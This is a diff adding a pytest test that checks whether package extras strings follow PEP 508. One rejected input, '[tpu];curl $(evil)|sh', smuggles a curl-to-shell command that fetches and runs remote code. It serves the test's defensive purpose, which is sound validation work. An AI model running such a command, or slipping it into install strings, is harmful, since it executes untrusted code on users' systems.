@@ -171,3 +171,18 @@ def test_a_bare_requirement_is_met_by_any_version() -> None:
     assert judged.outcome is Outcome.MET and judged.spec == ""
     old_style = versions.judge_requirement("torch (>=2.1)", "torch", "2.13.0", "3.11.7")
     assert old_style.outcome is Outcome.MET and old_style.spec == ">=2.1"
+
+
+@pytest.mark.parametrize(
+    ("extras", "valid"),
+    [
+        ("", True),
+        ("[tpu]", True),  # torch_xla[tpu], as pytorch/xla's README installs it
+        ("[neuronx, training]", True),
+        ("[]", False),
+        ("[tpu];curl $(evil)|sh", False),  # a pasted value is never part of a command
+        ("[tpu", False),
+    ],
+)
+def test_extras_follow_pep_508(extras: str, valid: bool) -> None:
+    assert versions.is_extras(extras) is valid
